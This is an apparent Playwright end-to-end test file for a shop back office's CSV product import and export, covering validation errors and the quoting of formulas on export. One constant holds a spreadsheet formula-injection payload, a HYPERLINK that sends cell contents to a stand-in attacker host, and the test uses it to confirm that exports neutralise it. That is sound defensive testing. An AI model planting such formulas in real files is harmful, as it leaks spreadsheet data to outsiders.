"""A shop owner imports products from a CSV file and finds them in the back office."""

from __future__ import annotations

import re
from pathlib import Path
from uuid import uuid4

from playwright.sync_api import expect

from mall.catalog.models import Category
from mall.extensions import db
from tests.e2e.journeys import make_person, sign_in

CSV = (
    "handle,title,description,option1_name,option1_value,sku,price,stock,status\r\n"
    "trail-socks,Trail socks {suffix},Warm wool.,Size,S,TS-S,9.50,4,published\r\n"
    "trail-socks,,,,M,TS-M,9.50,6,\r\n"
)


def test_an_owner_imports_a_csv_file(page, live_app, tmp_path):
    suffix = uuid4().hex[:8]
    email, slug = f"seller-{suffix}@example.com", f"socks-{suffix}"
    make_person(live_app, email, name="Sam Seller", owns=(slug, f"Sock Shop {suffix}"))
    sign_in(page, email)

    page.goto(f"/shop/{slug}/admin/catalog/csv/")
    expect(page.get_by_role("heading", name="Import and export products")).to_be_visible()
    expect(page.get_by_role("heading", name="File format")).to_be_visible()
    source = tmp_path / "socks.csv"
    source.write_text(CSV.format(suffix=suffix), encoding="utf-8")
    page.get_by_label("CSV file", exact=True).set_input_files(str(source))
    page.get_by_role("button", name="Import the file").click()

    expect(page).to_have_url(re.compile(rf"/shop/{slug}/admin/catalog/csv/imports/[0-9a-f-]+$"))
    expect(page.get_by_role("heading", name="Import of socks.csv")).to_be_visible()
    expect(page.locator("#import-status")).to_have_text("done")
    expect(page.locator("#import-result")).to_contain_text("1 product(s) created, 0 updated")
    expect(page.get_by_role("progressbar", name="Rows checked")).to_have_attribute(
        "aria-valuenow", "100"
    )

    page.get_by_role("link", name="Import and export").click()
    expect(page.get_by_role("cell", name="socks.csv")).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("link", name="Download the CSV file").click()
    assert download.value.suggested_filename == f"{slug}-catalog.csv"
    exported = Path(download.value.path()).read_text(encoding="utf-8")
    assert f"trail-socks,Trail socks {suffix},Warm wool." in exported
    assert "TS-M,9.50" in exported

    if "catalog_admin.products" in live_app.view_functions:
        page.goto(f"/shop/{slug}/admin/catalog/")
        expect(page.get_by_text(f"Trail socks {suffix}").first).to_be_visible()


RAKES = (
    "handle,title,category,option1_name,option1_value,sku,price\r\n"
    "hoe,Hoe,{good},,,HOE-{suffix},12.00\r\n"
    "rake,Rake,{bad},Size,S,RAKE-S-{suffix},9.00\r\n"
    "rake,Rake,{good},Size,M,RAKE-M-{suffix},9.00\r\n"
    "rake,Rake,{good},Size,L,RAKE-L-{suffix},100000000000000000000\r\n"
    "rake,Rake,{good},Size,XL,RAKE-XL-{suffix},9.00\r\n"
)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Open")'


def test_import_problems_are_told_once_and_exports_quote_formulas(page, live_app, tmp_path):
    suffix = uuid4().hex[:8]
    email, slug, good = f"gardener-{suffix}@example.com", f"rakes-{suffix}", f"garden-{suffix}"
    make_person(live_app, email, name="Gil Gardener", owns=(slug, f"Rake Shop {suffix}"))
    with live_app.app_context():
        db.session.add(Category(name=f"Garden {suffix}", slug=good))
        db.session.commit()
    sign_in(page, email)

    # A file with a mistyped category on a product's first row and a price past any maximum.
    page.goto(f"/shop/{slug}/admin/catalog/csv/")
    source = tmp_path / "rakes.csv"
    source.write_text(RAKES.format(suffix=suffix, good=good, bad="gardn"), encoding="utf-8")
    page.get_by_label("CSV file", exact=True).set_input_files(str(source))
    page.get_by_role("button", name="Import the file").click()
    expect(page.locator("#import-status")).to_have_text("failed")
    expect(page.locator("#import-progress")).to_have_text("5 of 5 rows checked.")
    expect(page.get_by_role("progressbar", name="Rows checked")).to_have_attribute(
        "aria-valuetext", "5 of 5 rows checked."
    )
    problems = page.get_by_role("region", name="Problems").get_by_role("row")
    expect(problems).to_have_count(4)  # the header and three problems, each once
    expect(problems.nth(1).get_by_role("cell")).to_have_text(
        ["3", "category", "No category “gardn” in the mall."]
    )
    expect(problems.nth(2).get_by_role("cell")).to_have_text(
        ["3", "category", re.compile(rf"^Rows 4 to 6 give another value \(“{good}”\)")]
    )
    expect(problems.nth(3).get_by_role("cell")).to_have_text(
        ["5", "price", "Enter an amount of at most $10,000,000,000.00."]
    )

    # Fixed, with a title a spreadsheet would run as a formula.
    fixed = RAKES.format(suffix=suffix, good=good, bad=good).replace("100000000000000000000", "9")
    source.write_text(fixed.replace("Hoe,", f'"{FORMULA.replace(chr(34), chr(34) * 2)}",', 1))
    page.get_by_role("link", name="Import and export").click()
    page.get_by_label("CSV file", exact=True).set_input_files(str(source))
    page.get_by_role("button", name="Import the file").click()
    expect(page.locator("#import-status")).to_have_text("done")
    expect(page.locator("#import-result")).to_contain_text("2 product(s) created")

    page.get_by_role("link", name="Import and export").click()
    with page.expect_download() as download:
        page.get_by_role("link", name="Download the CSV file").click()
    exported = Path(download.value.path()).read_text(encoding="utf-8")
    assert 'hoe,"\'=HYPERLINK(""https://evil.example/?""&A1, ""Open"")",' in exported

    page.goto(f"/shop/{slug}/admin/catalog/")
    expect(page.get_by_role("link", name=FORMULA, exact=True)).to_be_visible()  # no quote
